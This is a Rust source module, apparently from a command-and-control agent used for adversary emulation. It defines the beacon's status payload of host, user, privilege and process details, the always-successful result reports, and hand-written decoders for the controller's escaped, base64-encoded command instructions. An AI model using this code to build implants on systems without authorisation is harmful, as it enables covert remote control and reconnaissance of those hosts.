//! Wire types and the two narrow inbound decoders.
//!
//! Outbound payloads are ordinary flat JSON and go through serde. Inbound
//! traffic is *not* ordinary JSON: the controller returns a flat object
//! whose `instructions` value is an array literal that has been escaped
//! several times in transit, ending up with backslash acting as both the
//! escape character and the effective quote character (`\key: \value\,`).
//! Both decoders below were reconstructed from recorded traffic. They are
//! best-effort parsers for that specific shape — neither is a general
//! JSON parser, and the exact unescape pass count and delimiter search
//! must not be "improved" without re-validating against captured
//! payloads.

use std::collections::BTreeMap;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use serde::Serialize;

use crate::config::{AgentConfig, CONTACT};
use crate::identity::Identity;

// ===================================================================
// Outbound payloads
// ===================================================================

/// Status payload sent on every poll. Field order is wire order.
#[derive(Debug, Serialize)]
pub struct StatusPayload<'a> {
    platform: &'a str,
    server: &'a str,
    group: &'a str,
    host: &'a str,
    contact: &'a str,
    architecture: &'a str,
    executors: &'a [String],
    privilege: &'a str,
    username: &'a str,
    location: &'a str,
    pid: String,
    ppid: String,
    exe_name: &'a str,
    paw: &'a str,
}

impl<'a> StatusPayload<'a> {
    /// Assemble a fresh payload from the immutable identity plus the
    /// current config. Rebuilt every cycle, discarded after send.
    #[must_use]
    pub fn new(identity: &'a Identity, config: &'a AgentConfig) -> Self {
        Self {
            platform: identity.platform,
            server: &config.server,
            group: &config.group,
            host: &identity.host,
            contact: CONTACT,
            architecture: identity.architecture,
            executors: &identity.executors,
            privilege: identity.privilege,
            username: &identity.username,
            location: &identity.location,
            pid: identity.pid.to_string(),
            ppid: identity.ppid.to_string(),
            exe_name: &identity.exe_name,
            paw: &identity.paw,
        }
    }
}

/// One executed instruction's outcome.
///
/// `stderr`, `exit_code`, `status` and `pid` are fixed placeholders:
/// stderr is merged into `output` and the protocol always reports
/// success, with any real failure text visible only inside `output`.
#[derive(Debug, Serialize)]
pub struct ExecutionResult {
    pub id: String,
    pub output: String,
    pub stderr: String,
    pub exit_code: i32,
    pub status: i32,
    pub pid: i32,
}

impl ExecutionResult {
    /// Wrap captured interpreter output for one instruction.
    #[must_use]
    pub fn new(id: String, captured: &str) -> Self {
        Self {
            id,
            output: BASE64.encode(captured),
            stderr: String::new(),
            exit_code: 0,
            status: 0,
            pid: 0,
        }
    }
}

/// Report body: all results from one cycle, keyed by the agent's paw.
#[derive(Debug, Serialize)]
pub struct ResultPayload {
    pub paw: String,
    pub results: Vec<ExecutionResult>,
}

// ===================================================================
// Inbound: flat object decoder
// ===================================================================

/// Decode a flat JSON object with scalar values into a key→value map.
///
/// Splits top-level pairs on commas and colons *outside* quotes, then
/// strips every `"` character from each key and value. Removing all
/// quote characters (not just the surrounding pair) is deliberate: it is
/// what collapses the escaped `instructions` value into the
/// backslash-quoted shape [`decode_instructions`] expects.
///
/// Malformed or empty input yields an empty map, never an error.
#[must_use]
pub fn decode_flat(text: &str) -> BTreeMap<String, String> {
    let mut map = BTreeMap::new();
    let json = text.trim();
    if json.len() < 2 || !json.starts_with('{') || !json.ends_with('}') {
        return map;
    }
    let inner = json[1..json.len() - 1].trim();
    if inner.is_empty() {
        return map;
    }

    for pair in split_outside_quotes(inner, ',') {
        let pair = pair.trim();
        let Some(colon) = find_outside_quotes(pair, ':') else {
            continue;
        };
        if colon == 0 {
            continue;
        }
        let key = pair[..colon].trim().replace('"', "");
        let value = pair[colon + 1..].trim().replace('"', "");
        map.insert(key, value);
    }
    map
}

/// Split `text` on `sep`, ignoring separators inside double quotes.
/// A quote preceded by a backslash does not toggle quoting.
fn split_outside_quotes(text: &str, sep: char) -> Vec<String> {
    let mut parts = Vec::new();
    let mut current = String::new();
    let mut in_quote = false;
    let mut prev = '\0';
    for c in text.chars() {
        if c == '"' && prev != '\\' {
            in_quote = !in_quote;
        } else if c == sep && !in_quote {
            parts.push(std::mem::take(&mut current));
            prev = c;
            continue;
        }
        current.push(c);
        prev = c;
    }
    if !current.is_empty() {
        parts.push(current);
    }
    parts
}

/// Byte index of the first `sep` outside double quotes, if any.
fn find_outside_quotes(text: &str, sep: char) -> Option<usize> {
    let mut in_quote = false;
    let mut prev = '\0';
    for (i, c) in text.char_indices() {
        if c == '"' && prev != '\\' {
            in_quote = !in_quote;
        } else if c == sep && !in_quote {
            return Some(i);
        }
        prev = c;
    }
    None
}

// ===================================================================
// Inbound: triple-escaped instruction decoder
// ===================================================================

/// One unit of work from the controller. `command` is still base64 here;
/// the beacon decodes it just before dispatch.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Instruction {
    pub id: String,
    pub command: String,
    pub executor: String,
}

/// Empty-array literal the controller sends when there is no work.
pub const EMPTY_INSTRUCTIONS: &str = "[]";

/// Decode the controller's escaped instruction array.
///
/// The value arrives triple-escaped; after [`decode_flat`] has stripped
/// the bare quote characters, what remains looks like
/// `[\{\\\id\\\: \\\<id>\\\, ...\}]`. The fixed sequence below —
/// bracket strip, one layer of enclosing quotes, exactly three
/// collapse passes (`\\\` → `\`, `\"` → `"`), then dropping any single
/// backslash before `{`/`}`/`:` — reduces that to `\field: \value\`
/// pairs that [`extract_field`] can walk.
///
/// A record missing any required field is discarded; the return value is
/// empty rather than an error for anything unparseable.
#[must_use]
pub fn decode_instructions(raw: &str) -> Vec<Instruction> {
    let trimmed = raw.trim();
    if trimmed == EMPTY_INSTRUCTIONS || trimmed.len() < 3 {
        return Vec::new();
    }

    let mut content = trimmed;
    content = content.strip_prefix('[').unwrap_or(content);
    content = content.strip_suffix(']').unwrap_or(content);
    let mut content = content.trim().to_string();

    if content.len() >= 2 && content.starts_with('"') && content.ends_with('"') {
        content = content[1..content.len() - 1].to_string();
    }

    // Three passes handles the deepest escaping seen in captures.
    for _ in 0..3 {
        content = content.replace("\\\\\\", "\\").replace("\\\"", "\"");
    }
    content = content.replace("\\{", "{").replace("\\}", "}").replace("\\:", ":");

    let id = extract_field(&content, "id");
    let command = extract_field(&content, "command");
    let executor = extract_field(&content, "executor");

    if id.is_empty() || command.is_empty() || executor.is_empty() {
        return Vec::new();
    }
    vec![Instruction { id, command, executor }]
}

/// Pull one `\key: \value\` field out of collapsed instruction text.
///
/// Finds the literal `\<key>:`, skips spaces and tabs, requires the next
/// character to be the opening `\`, and captures up to the following
/// `\`. Returns an empty string when the key is absent, the opening
/// delimiter is missing, or the value is unterminated.
fn extract_field(content: &str, key: &str) -> String {
    let needle = format!("\\{key}:");
    let Some(found) = content.find(&needle) else {
        return String::new();
    };
    let bytes = content.as_bytes();
    let mut i = found + needle.len();
    while i < bytes.len() && (bytes[i] == b' ' || bytes[i] == b'\t') {
        i += 1;
    }
    if i >= bytes.len() || bytes[i] != b'\\' {
        return String::new();
    }
    i += 1;
    match content[i..].find('\\') {
        Some(end) => content[i..i + end].to_string(),
        None => String::new(),
    }
}
